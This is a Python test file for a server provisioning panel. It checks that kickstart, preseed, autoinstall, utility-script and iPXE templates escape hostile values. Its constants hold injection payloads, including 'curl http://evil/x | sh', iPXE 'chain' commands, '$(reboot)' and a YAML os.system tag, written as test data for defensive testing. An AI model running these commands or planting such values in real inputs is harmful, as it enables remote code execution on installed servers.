"""Every shipped template and the iPXE boot script, rendered with hostile values: no value
adds a line, a directive or a shell command, and the output still parses.

The values stand for rows written before names had a rule, keys saved before control
characters were refused, and whatever a future surface lets through: validation upstream
is not what keeps the rendering safe.
"""

import importlib
import shlex
import subprocess

import pytest
import yaml
from django.apps import apps as django_apps
from pykickstart.parser import KickstartParser
from pykickstart.version import makeVersion

from inventory import ipam
from inventory.models import Server
from panel.models import SshKey
from provisioning import installers, services
from provisioning.models import Operation, OsTemplate
from tests.factories import ECDSA, ED25519, RSA_1024, make_pool, make_server

NAME = "evil\n%end\n%pre\ncurl http://evil/x | sh\n%end\nchain http://evil/x\r\n#!ipxe"
SERIAL = "SN1\nd-i preseed/late_command string curl http://evil/x|sh\\"
OS_NAME = "Alma'9\" $(reboot) `reboot` ; chain http://evil/x && exit || #x ${ip}\n%post\n"
HASH = "$6$salt$hash'\"\n  root: evil\n%end\\"
KEYS = [
    'ssh-ed25519 AAAAkey "; curl http://evil/x | sh; echo "',
    "ssh-ed25519 AAAAkey x\nMETALPANEL_KEYS\n%end\n%pre\ncurl http://evil/x | sh\n%end",
    "ssh-rsa AAAAkey $(reboot) `reboot` 'q' \\ back\\",
    "ssh-ed25519 AAAAkey y: {z: [1]} # &anchor *alias !!python/object:os.system - ? | > %",
]
BENIGN_KEYS = [ED25519, ECDSA, RSA_1024, ED25519]
TAIL = "'\" || chain http://evil/x\n%end\nd-i x string y\\"
HOSTILE_URLS = {
    "config_url": "http://panel.test/boot/config/S?a=1&&b=$(reboot)" + TAIL,
    "events_url": "http://panel.test/boot/events/S;reboot;`id`" + TAIL,
    "panel_url": "http://panel.test" + TAIL,
}
URLS = {
    "config_url": "http://panel.test/boot/config/SECRET",
    "events_url": "http://panel.test/boot/events/SECRET",
    "panel_url": "http://panel.test",
}
SHIPPED = ["AlmaLinux 9", "Rocky Linux 9", "Debian 12", "Ubuntu 24.04 LTS"]
UTILITY = "Utility image (diagnostics and wipe)"


@pytest.fixture
def server(admin):
    server = make_server(actor=admin, name="web-01", serial="SN1")
    server.profile.disk_count = 2
    server.profile.save()
    ipam.allocate_ip(actor=admin, server=server, pool=make_pool())
    return server


def hostile(server):
    """The same server as a row written before names had a rule."""
    Server.objects.filter(pk=server.pk).update(name=NAME, serial=SERIAL)
    return Server.objects.select_related("profile").get(pk=server.pk)


def render(server, name, *, os_name=None, urls=URLS, **params):
    template = OsTemplate.objects.get(name=name)
    template.name = os_name or template.name
    params = {"raid": "raid_1", "wipe": "full", **params}
    context = installers.install_context(server=server, template=template, params=params, urls=urls)
    return installers.render(template.config, context, "installer config")


def render_both(server, name, **hostile_params):
    benign = render(server, name, ssh_keys=BENIGN_KEYS, password_hash="$6$salt$hash")
    params = {"ssh_keys": KEYS, "password_hash": HASH, **hostile_params}
    evil = render(hostile(server), name, os_name=OS_NAME, urls=HOSTILE_URLS, **params)
    return benign, evil


def directives(text: str) -> list[str]:
    """What each line is: its first word (a variable's name). Lines split as pykickstart's."""
    return [line.split()[0].split("=")[0] if line.strip() else "" for line in text.splitlines()]


def shell_operators(text: str) -> list[str]:
    """The shell's command separators and substitutions, outside quotes and comments."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=True)
    lexer.wordchars += "$`{}[]?*!%"
    return [token for token in lexer if set(token) <= set("();<>|&")]


def assert_same_shape(benign: str, evil: str) -> None:
    assert directives(evil) == directives(benign), evil
    assert "\nchain " not in evil and "\n%pre\ncurl http://evil" not in evil


@pytest.mark.parametrize("name", ["AlmaLinux 9", "Rocky Linux 9"])
def test_kickstart_with_hostile_values_has_no_injected_line_and_passes_ksvalidator(
    server, tmp_path, name
):
    benign, evil = render_both(server, name)
    assert_same_shape(benign, evil)
    assert shell_operators(evil) == shell_operators(benign)
    path = tmp_path / "ks.cfg"
    path.write_text(evil)
    checked = subprocess.run(
        ["ksvalidator", "-v", "RHEL9", str(path)], capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr + evil
    parser = KickstartParser(makeVersion("RHEL9"))
    parser.readKickstartFromString(evil)
    assert [script.type for script in parser.handler.scripts] == [0, 1, 1]  # %pre, %post x2
    assert parser.handler.network.network[0].hostname == installers.hostname_for(hostile(server))
    assert parser.handler.rootpw.password == HASH.replace("\n", "?")
    post = parser.handler.scripts[1].script
    for key in KEYS:
        assert f"printf '%s\\n' {shlex.quote(key.replace(chr(10), '?'))} >>" in post


def test_preseed_with_hostile_values_keeps_one_answer_per_line(server):
    benign, evil = render_both(server, "Debian 12")
    assert_same_shape(benign, evil)
    answers = [line for line in evil.splitlines() if line and not line.startswith("#")]
    for answer in answers:
        _owner, _question, kind, *_value = answer.split(" ", 3)
        assert kind in ("string", "boolean", "select", "multiselect", "password", "note"), answer
        assert not answer.endswith("\\"), answer  # a trailing backslash joins the next line
    commands = [a.split(" ", 3)[3] for a in answers if a.split(" ", 2)[1].endswith("_command")]
    benign_commands = [
        a.split(" ", 3)[3] for a in benign.splitlines() if " preseed/" in a and "_command " in a
    ]
    assert [shell_operators(c) for c in commands] == [shell_operators(c) for c in benign_commands]
    assert shlex.quote(KEYS[0]) in commands[1]


def test_autoinstall_with_hostile_values_is_yaml_with_the_values_as_data(server):
    benign, evil = render_both(server, "Ubuntu 24.04 LTS")
    assert_same_shape(benign, evil)
    data = yaml.safe_load(evil)["autoinstall"]
    assert data["identity"]["hostname"] == installers.hostname_for(hostile(server))
    assert data["identity"]["password"] == HASH.replace("\n", "?")
    assert data["ssh"]["authorized-keys"] == [key.replace("\n", "?") for key in KEYS]
    expected = yaml.safe_load(benign)["autoinstall"]
    for step in ("early-commands", "late-commands"):
        assert [shell_operators(c) for c in data[step]] == [
            shell_operators(c) for c in expected[step]
        ]


def test_the_utility_script_with_hostile_values_is_one_shell_script(server, tmp_path):
    benign, evil = render_both(server, UTILITY, wipe='none"; reboot; echo "\nfull')
    assert_same_shape(benign, evil)
    assert shell_operators(evil) == shell_operators(benign)
    checked = subprocess.run(["sh", "-n"], input=evil, capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr


def test_every_shipped_template_is_covered_and_filters_its_boot_arguments(db):
    shipped = OsTemplate.objects.all()
    assert {template.name for template in shipped} == {*SHIPPED, UTILITY}
    for template in shipped:
        assert "{{ config_url|ipxe }}" in template.boot_args
        assert "{{ config_url }}" not in template.boot_args


def test_migration_0007_filters_shipped_templates_and_leaves_what_staff_edited(db):
    shipped = importlib.import_module("provisioning.migrations.0004_default_os_templates")
    filtering = importlib.import_module("provisioning.migrations.0007_templates_escape_values")
    el9_args = shipped.DEFAULTS[0]["boot_args"]
    OsTemplate.objects.filter(name="AlmaLinux 9").update(boot_args=el9_args, config="# ours")
    OsTemplate.objects.filter(name="Rocky Linux 9").update(boot_args="inst.ks={{ config_url }}")
    filtering.forwards(django_apps, None)
    alma, rocky = OsTemplate.objects.filter(family="kickstart").order_by("name")
    assert alma.boot_args.startswith(
        "inst.ks={{ config_url|ipxe }} inst.repo={{ os.mirror|ipxe }}/"
    )
    assert alma.config == "# ours"
    assert rocky.boot_args == "inst.ks={{ config_url }}"
    assert "{{ events_url|sh }}" in rocky.config


def ipxe_commands(script: str) -> list[list[str]]:
    """Each line's commands as iPXE runs them: split on spaces, cut at `||`, `&&`, `;`, `#`."""
    lines = []
    for line in script.splitlines():
        commands, words = [], []
        for word in line.split():
            if word.startswith("#") and not (words == [] and word == "#!ipxe"):
                break
            if word in ("||", "&&", ";"):
                commands.append(words[0] if words else "")
                words = []
            else:
                words.append(word)
        lines.append([*commands, *(words[:1] or [""])])
    return lines


def boot_script(client, server, customer) -> str:
    template = OsTemplate.objects.get(family="kickstart", name__in=["AlmaLinux 9", OS_NAME])
    key = SshKey.objects.create(
        user=customer, name=server.mac, public_key=ED25519, fingerprint=server.mac
    )
    op = services.start_install(actor=customer, server=server, template=template, ssh_keys=[key])
    # The panel has rebooted the machine into the network: only now is the installer served.
    Operation.objects.filter(pk=op.pk).update(state=Operation.State.RUNNING, step="wait_pxe")
    return client.get("/boot/ipxe", {"mac": server.mac}).content.decode()


def test_the_ipxe_boot_script_with_a_hostile_name_and_os_runs_only_its_own_commands(
    client, admin, customer
):
    benign = boot_script(client, make_server(actor=admin, owner=customer), customer)
    server = make_server(actor=admin, owner=customer)
    hostile(server)
    OsTemplate.objects.filter(name="AlmaLinux 9").update(name=OS_NAME)
    script = boot_script(client, server, customer)
    assert script.startswith("#!ipxe\n")
    assert any(command[0] == "kernel" for command in ipxe_commands(script)), script
    assert ipxe_commands(script) == ipxe_commands(benign), script
    assert "${" not in script
    assert "&amp;" not in script and "&#x27;" not in script  # iPXE is not HTML
